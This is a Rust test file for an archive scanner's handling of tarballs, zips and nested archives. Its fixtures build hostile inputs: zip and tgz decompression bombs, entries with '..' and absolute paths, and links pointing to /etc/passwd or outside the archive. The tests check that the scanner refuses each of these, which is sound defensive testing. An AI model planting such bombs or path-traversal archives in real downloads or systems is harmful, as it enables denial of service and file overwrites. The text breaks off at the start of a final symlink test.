//! Archives (`.tgz`, `.tar`, `.zip`, nested), read as streams within limits, and bad
//! input: zip bombs, `..` and absolute paths, links, truncated and corrupt archives,
//! empty files and archives, unreadable and linked directory entries.

// Fixture builders are helpers, not `#[test]` functions: let them unwrap too.
#![allow(clippy::unwrap_used)]

use std::io::Write as _;
use std::path::{Path, PathBuf};
use std::time::{Duration, Instant};

use candor_scan::archive;
use candor_scan::{ArchiveLimits, Kind, ScanReport, scan_path, scan_path_with};
use flate2::Compression;
use flate2::write::GzEncoder;
use zip::write::SimpleFileOptions;

use crate::support::{Rng, scanner};

const CLI_JS: &[u8] =
    b"#!/usr/bin/env node\nconst t=process.env.ACME_TOKEN;if(!t)throw new Error(\"no token\");\n";
const PACKAGE_JSON: &[u8] = b"{\"name\":\"agent\",\"version\":\"1.4.0\",\"bin\":\"dist/cli.js\"}\n";

fn npm_entries() -> Vec<(&'static str, Vec<u8>)> {
    vec![
        ("package/package.json", PACKAGE_JSON.to_vec()),
        ("package/dist/cli.js", CLI_JS.to_vec()),
    ]
}

fn tar_bytes(entries: &[(&str, Vec<u8>)]) -> Vec<u8> {
    let mut builder = tar::Builder::new(Vec::new());
    for (name, data) in entries {
        let mut header = tar::Header::new_gnu();
        header.set_size(data.len() as u64);
        header.set_mode(0o644);
        builder.append_data(&mut header, name, &data[..]).unwrap();
    }
    builder.into_inner().unwrap()
}

fn gzip(bytes: &[u8]) -> Vec<u8> {
    let mut encoder = GzEncoder::new(Vec::new(), Compression::default());
    encoder.write_all(bytes).unwrap();
    encoder.finish().unwrap()
}

fn zip_bytes(entries: &[(&str, Vec<u8>)]) -> Vec<u8> {
    let mut writer = zip::ZipWriter::new(std::io::Cursor::new(Vec::new()));
    for (name, data) in entries {
        let options =
            SimpleFileOptions::default().compression_method(zip::CompressionMethod::Deflated);
        writer.start_file(*name, options).unwrap();
        writer.write_all(data).unwrap();
    }
    writer.finish().unwrap().into_inner()
}

fn write(dir: &Path, name: &str, bytes: &[u8]) -> PathBuf {
    let path = dir.join(name);
    fs_err::write(&path, bytes).unwrap();
    path
}

/// The files holding an `env-var` indicator for `name`.
fn env_files<'a>(report: &'a ScanReport, name: &str) -> Vec<&'a str> {
    report
        .indicators
        .iter()
        .filter(|i| i.kind == Kind::EnvVar && i.value == name)
        .map(|i| i.evidence.file.as_str())
        .collect()
}

fn files(report: &ScanReport) -> Vec<&str> {
    report.files.iter().map(|f| f.path.as_str()).collect()
}

fn reason<'a>(report: &'a ScanReport, path: &str) -> &'a str {
    report.skipped.iter().find(|s| s.path == path).map_or_else(
        || panic!("{path} not skipped: {:#?}", report.skipped),
        |s| s.reason.as_str(),
    )
}

/// Letters from a fixed generator: text that compresses only about 2:1.
fn noise(len: usize, seed: u64) -> Vec<u8> {
    let mut rng = Rng::new(seed);
    (0..len)
        .map(|_| b'a' + u8::try_from(rng.below(26)).unwrap())
        .collect()
}

#[test]
fn npm_tarball_entries_are_scanned_under_the_archive_name() {
    let dir = tempfile::tempdir().unwrap();
    let path = write(dir.path(), "x.tgz", &gzip(&tar_bytes(&npm_entries())));
    let report = scan_path(&scanner(), &path).unwrap();
    assert_eq!(
        files(&report),
        ["x.tgz!package/package.json", "x.tgz!package/dist/cli.js"]
    );
    assert_eq!(report.files[1].size, CLI_JS.len() as u64);
    assert_eq!(
        env_files(&report, "ACME_TOKEN"),
        ["x.tgz!package/dist/cli.js"]
    );
    assert!(report.skipped.is_empty(), "{:#?}", report.skipped);
}

#[test]
fn archive_bytes_scan_as_the_archive_file_does() {
    // The fuzzing entry point: bytes in, the report `scan_path` gives for the file out.
    let dir = tempfile::tempdir().unwrap();
    let scanner = scanner();
    let limits = ArchiveLimits::default();
    for (name, bytes) in [
        ("x.tgz", gzip(&tar_bytes(&npm_entries()))),
        ("x.tar", tar_bytes(&npm_entries())),
        ("x.zip", zip_bytes(&npm_entries())),
        ("cut.tgz", gzip(&tar_bytes(&npm_entries()))[..200].to_vec()),
    ] {
        let from_file = scan_path(&scanner, &write(dir.path(), name, &bytes)).unwrap();
        let from_bytes = archive::scan_bytes(&scanner, name, &bytes, &limits)
            .unwrap_or_else(|| panic!("{name} is an archive"));
        assert_eq!(from_bytes.input, name);
        assert_eq!(from_bytes.files, from_file.files, "{name}");
        assert_eq!(from_bytes.indicators, from_file.indicators, "{name}");
        assert_eq!(from_bytes.skipped, from_file.skipped, "{name}");
    }
    assert!(archive::scan_bytes(&scanner, "x.js", CLI_JS, &limits).is_none());
}

#[test]
fn plain_tar_and_tar_gz_names_are_read() {
    let dir = tempfile::tempdir().unwrap();
    // A directory entry (not listed), then the file.
    let mut builder = tar::Builder::new(Vec::new());
    let mut header = tar::Header::new_ustar();
    header.set_entry_type(tar::EntryType::Directory);
    header.set_size(0);
    header.set_mode(0o755);
    builder
        .append_data(&mut header, "package/", std::io::empty())
        .unwrap();
    let mut header = tar::Header::new_ustar();
    header.set_size(CLI_JS.len() as u64);
    header.set_mode(0o644);
    builder
        .append_data(&mut header, "package/dist/cli.js", CLI_JS)
        .unwrap();
    let tar = builder.into_inner().unwrap();
    let scanner = scanner();

    let report = scan_path(&scanner, &write(dir.path(), "x.tar", &tar)).unwrap();
    assert_eq!(files(&report), ["x.tar!package/dist/cli.js"]);
    assert_eq!(
        env_files(&report, "ACME_TOKEN"),
        ["x.tar!package/dist/cli.js"]
    );
    assert!(report.skipped.is_empty(), "{:#?}", report.skipped);

    let report = scan_path(
        &scanner,
        &write(dir.path(), "agent-1.4.0.tar.gz", &gzip(&tar)),
    )
    .unwrap();
    assert_eq!(
        env_files(&report, "ACME_TOKEN"),
        ["agent-1.4.0.tar.gz!package/dist/cli.js"]
    );
}

#[test]
fn zip_entries_are_scanned() {
    let dir = tempfile::tempdir().unwrap();
    let mut entries = npm_entries();
    entries.push(("package/empty.txt", Vec::new()));
    let path = write(dir.path(), "x.zip", &zip_bytes(&entries));
    let report = scan_path(&scanner(), &path).unwrap();
    assert_eq!(
        files(&report),
        [
            "x.zip!package/package.json",
            "x.zip!package/dist/cli.js",
            "x.zip!package/empty.txt"
        ]
    );
    assert_eq!(
        env_files(&report, "ACME_TOKEN"),
        ["x.zip!package/dist/cli.js"]
    );
    assert!(report.skipped.is_empty(), "{:#?}", report.skipped);
}

#[test]
fn archives_are_recognised_by_content_whatever_their_name() {
    let dir = tempfile::tempdir().unwrap();
    let scanner = scanner();
    let tgz = scan_path(
        &scanner,
        &write(dir.path(), "download", &gzip(&tar_bytes(&npm_entries()))),
    )
    .unwrap();
    assert_eq!(
        env_files(&tgz, "ACME_TOKEN"),
        ["download!package/dist/cli.js"]
    );
    let zip = scan_path(
        &scanner,
        &write(dir.path(), "ext.vsix", &zip_bytes(&npm_entries())),
    )
    .unwrap();
    assert_eq!(
        env_files(&zip, "ACME_TOKEN"),
        ["ext.vsix!package/dist/cli.js"]
    );
    let tar = scan_path(
        &scanner,
        &write(dir.path(), "blob.bin", &tar_bytes(&npm_entries())),
    )
    .unwrap();
    assert_eq!(
        env_files(&tar, "ACME_TOKEN"),
        ["blob.bin!package/dist/cli.js"]
    );

    // A plain file that only has an archive's name is scanned as the plain file it is.
    let notes = scan_path(&scanner, &write(dir.path(), "notes.zip", CLI_JS)).unwrap();
    assert_eq!(env_files(&notes, "ACME_TOKEN"), ["notes.zip"]);
    let old = scan_path(&scanner, &write(dir.path(), "notes.tar", CLI_JS)).unwrap();
    assert_eq!(env_files(&old, "ACME_TOKEN"), ["notes.tar"]);
}

#[test]
fn a_gzip_compressed_file_is_scanned_decompressed() {
    let dir = tempfile::tempdir().unwrap();
    let report = scan_path(&scanner(), &write(dir.path(), "cli.js.gz", &gzip(CLI_JS))).unwrap();
    assert_eq!(env_files(&report, "ACME_TOKEN"), ["cli.js.gz!cli.js"]);
}

#[test]
fn an_npm_tarball_inside_a_zip_is_opened_two_levels_deep_but_no_deeper() {
    let dir = tempfile::tempdir().unwrap();
    let tgz = gzip(&tar_bytes(&npm_entries()));
    let bundle = zip_bytes(&[
        ("README", b"release bundle".to_vec()),
        ("agent-1.4.0.tgz", tgz.clone()),
    ]);
    let scanner = scanner();
    let report = scan_path(&scanner, &write(dir.path(), "bundle.zip", &bundle)).unwrap();
    assert_eq!(
        env_files(&report, "ACME_TOKEN"),
        ["bundle.zip!agent-1.4.0.tgz!package/dist/cli.js"]
    );
    assert!(files(&report).contains(&"bundle.zip!README"));
    assert!(report.skipped.is_empty(), "{:#?}", report.skipped);

    // Three levels: the innermost archive is listed, not opened.
    let outer = zip_bytes(&[("bundle.zip", bundle)]);
    let report = scan_path(&scanner, &write(dir.path(), "outer.zip", &outer)).unwrap();
    assert!(env_files(&report, "ACME_TOKEN").is_empty());
    assert!(
        reason(&report, "outer.zip!bundle.zip!agent-1.4.0.tgz")
            .contains("nested more than 2 levels deep"),
        "{:#?}",
        report.skipped
    );
    assert_eq!(files(&report), ["outer.zip!bundle.zip!README"]);

    // A deeper limit opens it.
    let deep = ArchiveLimits {
        max_depth: 3,
        ..ArchiveLimits::default()
    };
    let report = scan_path_with(&scanner, &dir.path().join("outer.zip"), &deep).unwrap();
    assert_eq!(
        env_files(&report, "ACME_TOKEN"),
        ["outer.zip!bundle.zip!agent-1.4.0.tgz!package/dist/cli.js"]
    );
}

// --- Decompression bombs, built compressed: 1 GiB of zeros is never held in memory, nor
// compressed byte by byte (which would take long in a debug build). A deflate stream of
// zeros is one compressed MiB repeated: each piece ends on a sync flush (byte-aligned,
// not final) and refers to nothing before it.

/// Raw deflate of `mib` MiB of zeros, not final.
fn deflated_zeros(mib: usize) -> Vec<u8> {
    let piece = sync_deflate(&vec![0u8; 1 << 20]);
    piece.repeat(mib)
}

/// Raw deflate of `bytes`, ending on a sync flush, not final.
fn sync_deflate(bytes: &[u8]) -> Vec<u8> {
    let mut compress = flate2::Compress::new(Compression::best(), false);
    let mut out = Vec::with_capacity(bytes.len() + 1024);
    compress
        .compress_vec(bytes, &mut out, flate2::FlushCompress::Sync)
        .unwrap();
    assert_eq!(compress.total_in(), bytes.len() as u64);
    out
}

/// The final, empty, stored block that ends a deflate stream.
const DEFLATE_END: [u8; 5] = [0x01, 0x00, 0x00, 0xff, 0xff];

fn crc32(bytes: &[u8]) -> u32 {
    let mut crc = flate2::Crc::new();
    crc.update(bytes);
    crc.sum()
}

struct RawEntry {
    name: &'static str,
    /// 0 stored, 8 deflated.
    method: u16,
    crc: u32,
    data: Vec<u8>,
    size: u32,
}

/// A zip written field by field, so that its entries can hold any deflate stream and
/// declare any size.
fn raw_zip(entries: &[RawEntry]) -> Vec<u8> {
    fn u16le(out: &mut Vec<u8>, v: u16) {
        out.extend_from_slice(&v.to_le_bytes());
    }
    fn u32le(out: &mut Vec<u8>, v: u32) {
        out.extend_from_slice(&v.to_le_bytes());
    }
    let mut out = Vec::new();
    let mut central = Vec::new();
    for entry in entries {
        let offset = u32::try_from(out.len()).unwrap();
        let name_len = u16::try_from(entry.name.len()).unwrap();
        let compressed = u32::try_from(entry.data.len()).unwrap();
        u32le(&mut out, 0x0403_4b50);
        for v in [20, 0, entry.method, 0, 0x21] {
            u16le(&mut out, v);
        }
        for v in [entry.crc, compressed, entry.size] {
            u32le(&mut out, v);
        }
        u16le(&mut out, name_len);
        u16le(&mut out, 0);
        out.extend_from_slice(entry.name.as_bytes());
        out.extend_from_slice(&entry.data);

        u32le(&mut central, 0x0201_4b50);
        for v in [0x031e, 20, 0, entry.method, 0, 0x21] {
            u16le(&mut central, v);
        }
        for v in [entry.crc, compressed, entry.size] {
            u32le(&mut central, v);
        }
        for v in [name_len, 0, 0, 0, 0] {
            u16le(&mut central, v);
        }
        u32le(&mut central, 0o100_644 << 16);
        u32le(&mut central, offset);
        central.extend_from_slice(entry.name.as_bytes());
    }
    let central_offset = u32::try_from(out.len()).unwrap();
    let central_len = u32::try_from(central.len()).unwrap();
    out.extend_from_slice(&central);
    u32le(&mut out, 0x0605_4b50);
    let count = u16::try_from(entries.len()).unwrap();
    for v in [0, 0, count, count] {
        u16le(&mut out, v);
    }
    u32le(&mut out, central_len);
    u32le(&mut out, central_offset);
    u16le(&mut out, 0);
    out
}

fn stored(name: &'static str, data: &[u8]) -> RawEntry {
    RawEntry {
        name,
        method: 0,
        crc: crc32(data),
        data: data.to_vec(),
        size: u32::try_from(data.len()).unwrap(),
    }
}

#[test]
fn a_zip_bomb_is_refused_without_being_inflated() {
    let dir = tempfile::tempdir().unwrap();
    let mut bomb = deflated_zeros(1024);
    bomb.extend_from_slice(&DEFLATE_END);
    let zip = raw_zip(&[
        RawEntry {
            name: "zeros.bin",
            method: 8,
            crc: 0,
            data: bomb,
            size: 1 << 30,
        },
        stored("package/dist/cli.js", CLI_JS),
    ]);
    assert!(zip.len() < 8 << 20, "{}", zip.len());
    let path = write(dir.path(), "bomb.zip", &zip);
    let started = Instant::now();
    let report = scan_path(&scanner(), &path).unwrap();
    assert!(
        started.elapsed() < Duration::from_secs(10),
        "{:?}",
        started.elapsed()
    );
    assert_eq!(
        reason(&report, "bomb.zip!zeros.bin"),
        "compression ratio above 200:1 (possible zip bomb)"
    );
    // The next entry is still scanned.
    assert_eq!(
        env_files(&report, "ACME_TOKEN"),
        ["bomb.zip!package/dist/cli.js"]
    );
    assert_eq!(files(&report), ["bomb.zip!package/dist/cli.js"]);
}

#[test]
fn a_zip_bomb_that_lies_about_its_size_is_stopped_at_the_ratio() {
    // Declared as 64 KiB, as if barely compressed: the ratio is crossed while reading,
    // after about 200 × its compressed size, and reading stops there.
    let dir = tempfile::tempdir().unwrap();
    let mut bomb = deflated_zeros(256);
    bomb.extend_from_slice(&DEFLATE_END);
    let compressed = bomb.len() as u64;
    let zip = raw_zip(&[
        RawEntry {
            name: "liar.bin",
            method: 8,
            crc: 0,
            data: bomb,
            size: 64 << 10,
        },
        stored("package/dist/cli.js", CLI_JS),
    ]);
    let path = write(dir.path(), "liar.zip", &zip);
    let report = scan_path(&scanner(), &path).unwrap();
    assert_eq!(
        reason(&report, "liar.zip!liar.bin"),
        "compression ratio above 200:1 (possible zip bomb)"
    );
    assert!(
        compressed * 200 < 256 << 20,
        "the bomb must be past the ratio"
    );
    assert_eq!(
        env_files(&report, "ACME_TOKEN"),
        ["liar.zip!package/dist/cli.js"]
    );
}

/// A `.tgz`: package/dist/cli.js, then package/zeros.bin of `mib` MiB of zeros, then
/// package/after.js.
fn tgz_bomb(mib: usize) -> Vec<u8> {
    let head = tar_bytes(&[("package/dist/cli.js", CLI_JS.to_vec())]);
    let head = &head[..head.len() - 1024]; // without the end-of-archive marker
    let mut header = tar::Header::new_gnu();
    header.set_path("package/zeros.bin").unwrap();
    header.set_size(u64::try_from(mib).unwrap() << 20);
    header.set_mode(0o644);
    header.set_cksum();
    let mut deflate = sync_deflate(&[head, header.as_bytes().as_slice()].concat());
    deflate.extend_from_slice(&deflated_zeros(mib));
    deflate.extend_from_slice(&sync_deflate(&tar_bytes(&[(
        "package/after.js",
        CLI_JS.to_vec(),
    )])));
    deflate.extend_from_slice(&DEFLATE_END);
    let mut tgz = vec![0x1f, 0x8b, 0x08, 0, 0, 0, 0, 0, 0, 0xff];
    tgz.extend_from_slice(&deflate);
    tgz.extend_from_slice(&[0; 8]); // checksum and size: never reached
    tgz
}

#[test]
fn a_tgz_bomb_is_stopped_at_the_ratio() {
    let dir = tempfile::tempdir().unwrap();
    let scanner = scanner();

    // Within the entry size limit: its own ratio stops it.
    let path = write(dir.path(), "bomb.tgz", &tgz_bomb(256));
    let started = Instant::now();
    let report = scan_path(&scanner, &path).unwrap();
    assert!(
        started.elapsed() < Duration::from_secs(10),
        "{:?}",
        started.elapsed()
    );
    assert_eq!(
        reason(&report, "bomb.tgz!package/zeros.bin"),
        "compression ratio above 200:1 (possible zip bomb); the rest of the compressed stream is not read"
    );
    assert_eq!(report.skipped.len(), 1, "{:#?}", report.skipped);
    // Before the bomb, scanned; after it, in the same compressed stream, not reached.
    assert_eq!(files(&report), ["bomb.tgz!package/dist/cli.js"]);

    // 1 GiB: too large to read, so skipped, but skipping it means inflating it, and the
    // ratio of the whole stream stops that.
    let path = write(dir.path(), "big-bomb.tgz", &tgz_bomb(1024));
    let started = Instant::now();
    let report = scan_path(&scanner, &path).unwrap();
    assert!(
        started.elapsed() < Duration::from_secs(10),
        "{:?}",
        started.elapsed()
    );
    assert_eq!(
        reason(&report, "big-bomb.tgz!package/zeros.bin"),
        "entry exceeds the 512 MiB entry limit"
    );
    assert!(
        reason(&report, "big-bomb.tgz")
            .starts_with("compression ratio above 200:1 across the archive (possible zip bomb)"),
        "{:#?}",
        report.skipped
    );
    assert_eq!(files(&report), ["big-bomb.tgz!package/dist/cli.js"]);
}

#[test]
fn limits_on_entry_size_total_size_and_entry_count_are_reported() {
    let dir = tempfile::tempdir().unwrap();
    let scanner = scanner();
    let entries = vec![
        ("package/big.js", noise(300 << 10, 1)),
        ("package/dist/cli.js", CLI_JS.to_vec()),
        ("package/other.js", noise(100 << 10, 2)),
    ];
    let tgz = write(dir.path(), "x.tgz", &gzip(&tar_bytes(&entries)));
    let zip = write(dir.path(), "x.zip", &zip_bytes(&entries));

    let small_entries = ArchiveLimits {
        max_entry_size: 256 << 10,
        ..ArchiveLimits::default()
    };
    for (path, name) in [(&tgz, "x.tgz"), (&zip, "x.zip")] {
        let report = scan_path_with(&scanner, path, &small_entries).unwrap();
        assert_eq!(
            reason(&report, &format!("{name}!package/big.js")),
            "entry exceeds the 256 KiB entry limit"
        );
        assert_eq!(
            files(&report),
            [
                format!("{name}!package/dist/cli.js"),
                format!("{name}!package/other.js")
            ]
        );
    }

    let small_total = ArchiveLimits {
        max_total_size: 350 << 10,
        ..ArchiveLimits::default()
    };
    let report = scan_path_with(&scanner, &zip, &small_total).unwrap();
    assert_eq!(
        files(&report),
        ["x.zip!package/big.js", "x.zip!package/dist/cli.js"]
    );
    assert!(
        reason(&report, "x.zip!package/other.js")
            .contains("350 KiB limit on total decompressed size"),
        "{:#?}",
        report.skipped
    );

    let few = ArchiveLimits {
        max_entries: 2,
        ..ArchiveLimits::default()
    };
    let report = scan_path_with(&scanner, &tgz, &few).unwrap();
    assert_eq!(files(&report).len(), 2);
    assert!(
        reason(&report, "x.tgz").starts_with("more than 2 entries"),
        "{:#?}",
        report.skipped
    );
}

#[test]
fn unsafe_paths_and_links_in_a_tar_are_listed_not_scanned() {
    fn raw(
        builder: &mut tar::Builder<Vec<u8>>,
        name: &str,
        kind: tar::EntryType,
        link: &str,
        data: &[u8],
    ) {
        let mut header = tar::Header::new_gnu();
        let gnu = header.as_gnu_mut().unwrap();
        gnu.name[..name.len()].copy_from_slice(name.as_bytes());
        gnu.linkname[..link.len()].copy_from_slice(link.as_bytes());
        header.set_entry_type(kind);
        header.set_size(data.len() as u64);
        header.set_mode(0o644);
        header.set_cksum();
        builder.append(&header, data).unwrap();
    }
    let dir = tempfile::tempdir().unwrap();
    let mut builder = tar::Builder::new(Vec::new());
    let regular = tar::EntryType::Regular;
    raw(
        &mut builder,
        "../evil.js",
        regular,
        "",
        b"process.env.EVIL_PARENT",
    );
    raw(
        &mut builder,
        "/etc/x",
        regular,
        "",
        b"process.env.EVIL_ABSOLUTE",
    );
    raw(
        &mut builder,
        "package/../../up.js",
        regular,
        "",
        b"process.env.EVIL_UP",
    );
    raw(
        &mut builder,
        "package/passwd",
        tar::EntryType::Symlink,
        "/etc/passwd",
        b"",
    );
    raw(
        &mut builder,
        "package/hard",
        tar::EntryType::Link,
        "../outside",
        b"",
    );
    raw(&mut builder, "package/dist/cli.js", regular, "", CLI_JS);
    let path = write(dir.path(), "evil.tar", &builder.into_inner().unwrap());

    let report = scan_path(&scanner(), &path).unwrap();
    assert_eq!(
        reason(&report, "evil.tar!../evil.js"),
        "unsafe path (`..` component) not scanned"
    );
    assert_eq!(
        reason(&report, "evil.tar!/etc/x"),
        "unsafe path (absolute) not scanned"
    );
    assert_eq!(
        reason(&report, "evil.tar!package/../../up.js"),
        "unsafe path (`..` component) not scanned"
    );
    assert_eq!(
        reason(&report, "evil.tar!package/passwd"),
        "link entry, never followed (symbolic link to /etc/passwd)"
    );
    assert_eq!(
        reason(&report, "evil.tar!package/hard"),
        "link entry, never followed (hard link to ../outside)"
    );
    assert_eq!(report.skipped.len(), 5, "{:#?}", report.skipped);
    assert_eq!(files(&report), ["evil.tar!package/dist/cli.js"]);
    assert!(
        report
            .indicators
            .iter()
            .all(|i| !i.value.starts_with("EVIL_")),
        "{:#?}",
        report.indicators
    );
    assert_eq!(
        env_files(&report, "ACME_TOKEN"),
        ["evil.tar!package/dist/cli.js"]
    );
}

#[test]
fn unsafe_paths_and_links_in_a_zip_are_listed_not_scanned() {
    let dir = tempfile::tempdir().unwrap();
    let mut writer = zip::ZipWriter::new(std::io::Cursor::new(Vec::new()));
    let options = SimpleFileOptions::default();
    writer
        .add_symlink("package/passwd", "/etc/passwd", options)
        .unwrap();
    writer.start_file("package/dist/cli.js", options).unwrap();
    writer.write_all(CLI_JS).unwrap();
    let zip = writer.finish().unwrap().into_inner();
    // Unsafe names, written raw (the zip writer would refuse some).
    let evil = raw_zip(&[
        stored("../evil.js", b"process.env.EVIL_PARENT"),
        stored("/etc/x", b"process.env.EVIL_ABSOLUTE"),
    ]);
    let scanner = scanner();

    let report = scan_path(&scanner, &write(dir.path(), "evil.zip", &evil)).unwrap();
    assert_eq!(
        reason(&report, "evil.zip!../evil.js"),
        "unsafe path (`..` component) not scanned"
    );
    assert_eq!(
        reason(&report, "evil.zip!/etc/x"),
        "unsafe path (absolute) not scanned"
    );
    assert!(
        report.files.is_empty() && report.indicators.is_empty(),
        "{report:#?}"
    );

    let report = scan_path(&scanner, &write(dir.path(), "links.zip", &zip)).unwrap();
    assert_eq!(
        reason(&report, "links.zip!package/passwd"),
        "link entry, never followed (symbolic link to /etc/passwd)"
    );
    assert_eq!(files(&report), ["links.zip!package/dist/cli.js"]);
}

#[test]
fn a_truncated_tgz_names_the_entry_where_it_broke_and_keeps_the_ones_before() {
    let dir = tempfile::tempdir().unwrap();
    let mut a = CLI_JS.to_vec();
    a.extend_from_slice(&noise(200_000, 1));
    let entries = vec![
        ("package/a.js", a),
        ("package/b.js", noise(200_000, 2)),
        ("package/c.js", noise(200_000, 3)),
    ];
    let tgz = gzip(&tar_bytes(&entries));
    let path = write(dir.path(), "x.tgz", &tgz[..tgz.len() / 2]);
    let report = scan_path(&scanner(), &path).unwrap();
    assert_eq!(files(&report), ["x.tgz!package/a.js"]);
    assert_eq!(env_files(&report, "ACME_TOKEN"), ["x.tgz!package/a.js"]);
    assert_eq!(
        reason(&report, "x.tgz!package/b.js"),
        "truncated gzip stream in entry package/b.js"
    );
    assert_eq!(report.skipped.len(), 1, "{:#?}", report.skipped);

    // Cut just before the gzip trailer: every entry is whole, the stream is not.
    let path = write(dir.path(), "y.tgz", &tgz[..tgz.len() - 4]);
    let report = scan_path(&scanner(), &path).unwrap();
    assert_eq!(files(&report).len(), 3);
    assert_eq!(
        reason(&report, "y.tgz"),
        "truncated gzip stream after entry package/c.js"
    );

    // Damaged in the middle rather than cut: deflate may decode garbage for a while
    // (gzip checks its checksum only at the end), but the break is reported, and what
    // came before it is scanned.
    let mut corrupt = tgz.clone();
    let middle = corrupt.len() / 2;
    for byte in &mut corrupt[middle..middle + 64] {
        *byte = !*byte;
    }
    let report = scan_path(&scanner(), &write(dir.path(), "z.tgz", &corrupt)).unwrap();
    assert_eq!(files(&report)[0], "z.tgz!package/a.js");
    assert_eq!(env_files(&report, "ACME_TOKEN"), ["z.tgz!package/a.js"]);
    assert_eq!(report.skipped.len(), 1, "{:#?}", report.skipped);
    let broken = &report.skipped[0];
    assert!(
        broken.reason.contains("gzip stream") || broken.reason.starts_with("corrupt tar header"),
        "{broken:#?}"
    );
}

#[test]
fn a_truncated_tar_names_the_entry_where_it_broke() {
    let dir = tempfile::tempdir().unwrap();
    let entries = vec![
        ("package/dist/cli.js", CLI_JS.to_vec()),
        ("package/b.js", noise(200_000, 2)),
        ("package/c.js", noise(50_000, 3)),
    ];
    let tar = tar_bytes(&entries);
    let report = scan_path(
        &scanner(),
        &write(dir.path(), "x.tar", &tar[..tar.len() / 2]),
    )
    .unwrap();
    assert_eq!(files(&report), ["x.tar!package/dist/cli.js"]);
    assert_eq!(
        reason(&report, "x.tar!package/b.js"),
        "truncated tar archive in entry package/b.js"
    );

    // Cut on a block boundary after an entry: no end-of-archive marker.
    let cut = tar.len() - 1024;
    let report = scan_path(&scanner(), &write(dir.path(), "y.tar", &tar[..cut])).unwrap();
    assert_eq!(files(&report).len(), 3);
    assert_eq!(
        reason(&report, "y.tar"),
        "truncated tar archive: it ends without its end-of-archive marker after entry package/c.js"
    );
    assert_eq!(report.skipped.len(), 1, "{:#?}", report.skipped);

    // The same cut tar in a whole gzip stream: the gzip stream is fine, the tar is not.
    let report = scan_path(&scanner(), &write(dir.path(), "y.tgz", &gzip(&tar[..cut]))).unwrap();
    assert_eq!(files(&report).len(), 3);
    assert_eq!(
        reason(&report, "y.tgz"),
        "truncated tar archive: it ends without its end-of-archive marker after entry package/c.js"
    );
    assert_eq!(report.skipped.len(), 1, "{:#?}", report.skipped);
}

#[test]
fn a_truncated_zip_is_read_from_its_local_headers() {
    let dir = tempfile::tempdir().unwrap();
    let entries = vec![
        ("package/dist/cli.js", CLI_JS.to_vec()),
        ("package/b.js", noise(200_000, 2)),
        ("package/c.js", noise(50_000, 3)),
    ];
    let zip = zip_bytes(&entries);
    let report = scan_path(
        &scanner(),
        &write(dir.path(), "x.zip", &zip[..zip.len() / 2]),
    )
    .unwrap();
    assert!(
        reason(&report, "x.zip").starts_with("corrupt zip central directory"),
        "{:#?}",
        report.skipped
    );
    assert_eq!(files(&report), ["x.zip!package/dist/cli.js"]);
    assert_eq!(
        env_files(&report, "ACME_TOKEN"),
        ["x.zip!package/dist/cli.js"]
    );
    assert!(
        reason(&report, "x.zip!package/b.js").contains("zip data in entry package/b.js"),
        "{:#?}",
        report.skipped
    );
}

#[test]
fn a_damaged_zip_entry_does_not_hide_the_ones_after_it() {
    let dir = tempfile::tempdir().unwrap();
    let entries = [
        ("package/a.js", b"process.env.ACME_A".to_vec()),
        ("package/b.js", b"process.env.ACME_B".to_vec()),
        ("package/c.js", b"process.env.ACME_C".to_vec()),
    ];
    let mut zip = raw_zip(
        &entries
            .iter()
            .map(|(n, d)| stored(n, d))
            .collect::<Vec<_>>(),
    );
    // Break the local header of package/b.js; the central directory still lists it.
    let second = zip
        .windows(4)
        .enumerate()
        .filter(|(_, w)| *w == b"PK\x03\x04")
        .nth(1)
        .unwrap()
        .0;
    zip[second] = b'X';
    // And the content of package/c.js, so that its checksum fails.
    let c = find(&zip, b"ACME_C").unwrap();
    zip[c] = b'X';
    let report = scan_path(&scanner(), &write(dir.path(), "x.zip", &zip)).unwrap();
    assert!(
        reason(&report, "x.zip!package/b.js").starts_with("corrupt zip entry"),
        "{:#?}",
        report.skipped
    );
    assert!(
        reason(&report, "x.zip!package/c.js").starts_with("corrupt zip data in entry package/c.js"),
        "{:#?}",
        report.skipped
    );
    assert_eq!(files(&report), ["x.zip!package/a.js"]);
    assert_eq!(env_files(&report, "ACME_A"), ["x.zip!package/a.js"]);
}

fn find(haystack: &[u8], needle: &[u8]) -> Option<usize> {
    haystack.windows(needle.len()).position(|w| w == needle)
}

#[test]
fn empty_files_and_empty_archives_are_fine() {
    let dir = tempfile::tempdir().unwrap();
    let scanner = scanner();
    let empty = scan_path(&scanner, &write(dir.path(), "empty.tgz", b"")).unwrap();
    assert_eq!(files(&empty), ["empty.tgz"]);
    assert!(empty.skipped.is_empty() && empty.indicators.is_empty());

    let tar = tar_bytes(&[]);
    for (name, bytes) in [
        ("empty.tar", tar.clone()),
        ("empty.tgz", gzip(&tar)),
        ("empty.zip", zip_bytes(&[])),
        ("nothing.gz", gzip(b"")),
    ] {
        let report = scan_path(&scanner, &write(dir.path(), name, &bytes)).unwrap();
        assert!(report.indicators.is_empty(), "{name}: {report:#?}");
        assert!(report.skipped.is_empty(), "{name}: {report:#?}");
        assert!(
            report.files.iter().all(|f| f.size == 0),
            "{name}: {report:#?}"
        );
    }
    // An archive holding an empty file lists it.
    let report = scan_path(
        &scanner,
        &write(dir.path(), "one.zip", &zip_bytes(&[("empty", Vec::new())])),
    )
    .unwrap();
    assert_eq!(files(&report), ["one.zip!empty"]);
}

#[cfg(unix)]
#[test]
fn a_directory_with_an_unreadable_entry_scans_the_others() {
    use std::os::unix::fs::PermissionsExt as _;
    let dir = tempfile::tempdir().unwrap();
    let root = dir.path().join("pkg");
    fs_err::create_dir_all(root.join("dist")).unwrap();
    write(&root, "dist/cli.js", CLI_JS);
    write(&root, "agent.tgz", &gzip(&tar_bytes(&npm_entries())));
    let secret = write(&root, "secret.js", b"process.env.SECRET_TOKEN");
    fs_err::set_permissions(&secret, std::fs::Permissions::from_mode(0o000)).unwrap();
    // As root, permissions deny nothing: then only check that the scan goes through.
    let denied = fs_err::File::open(&secret).is_err();

    let report = scan_path(&scanner(), &root).unwrap();
    fs_err::set_permissions(&secret, std::fs::Permissions::from_mode(0o644)).unwrap();
    assert_eq!(
        env_files(&report, "ACME_TOKEN"),
        ["agent.tgz!package/dist/cli.js", "dist/cli.js"]
    );
    if denied {
        assert_eq!(
            reason(&report, "secret.js"),
            "cannot open: permission denied"
        );
        assert!(env_files(&report, "SECRET_TOKEN").is_empty());
        assert!(!files(&report).contains(&"secret.js"));
    } else {
        assert!(report.skipped.is_empty(), "{:#?}", report.skipped);
    }
}

#[cfg(unix)]
#[test]
fn a_symlink_inside_a_scanned_directory_is_never_followed() {
    let dir = tempfile::tempdir().unwrap();
